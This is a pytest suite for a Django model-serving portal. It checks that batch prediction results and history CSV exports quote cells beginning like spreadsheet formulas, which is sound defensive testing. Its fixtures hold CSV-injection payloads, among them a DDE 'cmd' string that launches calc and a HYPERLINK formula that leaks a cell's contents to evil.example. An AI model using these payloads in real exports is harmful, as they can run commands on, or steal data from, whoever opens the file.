"""Every CSV the portal writes quotes cells a spreadsheet would run as formulas (OWASP's rule)."""

import csv
import io
import itertools
import logging
from http import HTTPStatus

import pytest
from django.core.files.base import ContentFile
from django.utils import timezone

from accounts.models import TokenScope
from accounts.tests.factories import make_token
from models_registry import services as registry
from models_registry import serving
from models_registry.models import TrainingJob
from models_registry.training import datasets
from models_registry.training.pipeline import run_training
from predictions.batch.frames import result_lines, score_chunk
from predictions.batch.plain import score_plain
from predictions.batch.upload import check_columns, plain_lines
from predictions.csv_cells import safe_cell, safe_lines, safe_row
from predictions.models import Prediction

FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-1+1",
    "-",
    "\t=1+1",
    "\r=1+1",
    "-2e5x",
]
NUMBERS = ["-1.5", "+3", "-2e5", "0", "1.5e-3", "-.5", " -1", "-1.5 "]
# The model below: a feature name, a category and both class labels shaped like formulas.
LABELS = ("=cmd|' /C calc'!A0", "@SUM(1+1)")
CHANNELS = ("web", "=1+1", "+app")
TRAINING_HEADER = "@risk,-channel,visits,label"
JOB_FILE = "@risk,-channel,visits\n-1.5,=1+1,3\n2,web,4\n-2e0,+app,5\n0.5,=2+2,1\n"


def spreadsheet_safe(cell):
    """What a spreadsheet would not run: text not starting like a formula, or a number."""
    if not cell.startswith(("=", "+", "-", "@", "\t", "\r")):
        return True
    try:
        float(cell)
    except ValueError:
        return False
    return True


# ---------------------------------------------------------------- the rule
@pytest.mark.parametrize("cell", FORMULAS)
def test_cells_that_start_like_a_formula_get_a_quote(cell):
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", [*NUMBERS, "web", "", "a=b", "'=already quoted", 1.5, -2, None])
def test_numbers_and_text_are_left_as_they_are(cell):
    assert safe_cell(cell) == cell


def test_plain_lines_are_quoted_field_by_field_as_single_cells_are():
    fields = [*FORMULAS[:5], *NUMBERS[:4], "web", ""]
    for combination in itertools.product(fields, repeat=3):
        line = ",".join(combination)
        assert safe_lines([line]) == [",".join(safe_row(combination))], line
    clean = ["1.5,2,web", "3,4,app"]
    assert safe_lines(clean) is clean  # nothing to do: the very same list back


# ---------------------------------------------------------------- batch results
def training_csv(rows=80):
    lines = [TRAINING_HEADER]
    for i in range(rows):
        risk = (i % 21 - 10) / 2  # halves: a number feature, negative for half the rows
        label = LABELS[0] if risk > 0 else LABELS[1]
        lines.append(f"{risk},{CHANNELS[i % 3]},{i % 7},{label}")
    return "\n".join(lines) + "\n"


@pytest.fixture
def formula_model(admin_user):
    serving.clear_loaded()
    job = TrainingJob(
        model_name="formulas",
        dataset=datasets.CSV,
        target_column="label",
        estimator="logistic_regression",
        created_by=admin_user,
    )
    job.csv_file.save("formulas.csv", ContentFile(training_csv().encode()), save=False)
    job.save()
    version = run_training(job.pk)
    job.refresh_from_db()
    assert version is not None, job.error
    registry.version_promote(version=version)
    return version


def _job_result(client, token, content):
    response = client.post(
        "/api/v1/models/formulas/jobs",
        {"file": ContentFile(content.encode(), name="rows.csv")},
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == HTTPStatus.ACCEPTED, response.content
    result = client.get(f"{response.json()['url']}/result", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert result.status_code == HTTPStatus.OK, result.content
    return b"".join(result.streaming_content).decode()


def test_batch_results_quote_inputs_feature_names_labels_and_messages(
    formula_model, client, user, caplog
):
    assert formula_model.output_classes == sorted(LABELS)
    token = make_token(user, scope=TokenScope.PREDICT)[1]
    assert plain_lines(JOB_FILE.encode()) is not None
    with caplog.at_level(logging.INFO, logger="predictions.batch.run"):
        plain = _job_result(client, token, JOB_FILE)
    assert "row-by-row" not in caplog.text  # the fast path wrote it
    rows = list(csv.reader(io.StringIO(plain)))
    assert rows[0] == [
        "'@risk",
        "'-channel",
        "visits",
        "prediction",
        *(f"probability_{label}" for label in sorted(LABELS)),
        "error",
    ]
    assert [row[:3] for row in rows[1:]] == [
        ["-1.5", "'=1+1", "3"],
        ["2", "web", "4"],
        ["-2e0", "'+app", "5"],
        ["0.5", "'=2+2", "1"],
    ]
    assert {row[3] for row in rows[1:4]} <= {"'" + label for label in LABELS}
    assert rows[4][3] == ""
    assert rows[4][-1].startswith("'-channel: Unknown category")
    assert all(spreadsheet_safe(cell) for row in rows for cell in row)
    # The same file with one quoted cell goes row by row, and comes out the same.
    quoted = JOB_FILE.replace("2,web,4", '2,"web",4')
    assert plain_lines(quoted.encode()) is None
    assert _job_result(client, token, quoted) == plain


def test_plain_and_row_by_row_chunks_agree_on_formula_cells(formula_model):
    predictor = serving.load_predictor(formula_model)
    header, lines = plain_lines(JOB_FILE.encode())
    header = check_columns(header, formula_model.input_schema)
    cells = ["=cmd|' /C calc'!A0", "@SUM(1+1)", "+1+1", "-1+1", "-", "\t=1+1"]
    lines += [f"{risk},{cell},1" for risk, cell in zip(NUMBERS * 2, cells, strict=False)]
    fast, fast_result = score_plain(
        lines, header=header, version=formula_model, predictor=predictor, first_row=1
    )
    rows = [line.split(",") for line in lines]
    slow_result = score_chunk(
        rows, header=header, version=formula_model, predictor=predictor, first_row=1
    )
    assert fast == result_lines(rows, slow_result)
    assert fast_result.errors == slow_result.errors
    assert all(spreadsheet_safe(cell) for row in csv.reader(io.StringIO(fast)) for cell in row)


# ---------------------------------------------------------------- history export
def test_history_export_quotes_what_people_chose(client, user):
    user.username = "@admin"
    user.save()
    Prediction.objects.create(
        request_id="=cmd|' /C calc'!A0",
        user=user,
        model_name="iris-model",
        version_number=1,
        arm="+b",
        inputs=[{"x": "=1+1"}],
        outputs=["-1.5"],
        rows=1,
        latency_ms=1.5,
        created_at=timezone.now(),
    )
    client.force_login(user)
    response = client.get("/history/export.csv")
    assert response.status_code == HTTPStatus.OK
    [row] = csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert row["request_id"] == "'=cmd|' /C calc'!A0"
    assert row["user"] == "'@admin"
    assert row["arm"] == "'+b"
    assert (row["version"], row["rows"], row["latency_ms"]) == ("1", "1", "1.5")
    assert row["inputs"] == '[{"x": "=1+1"}]'  # JSON text starts with a bracket: inert
    assert all(spreadsheet_safe(cell) for cell in row.values())
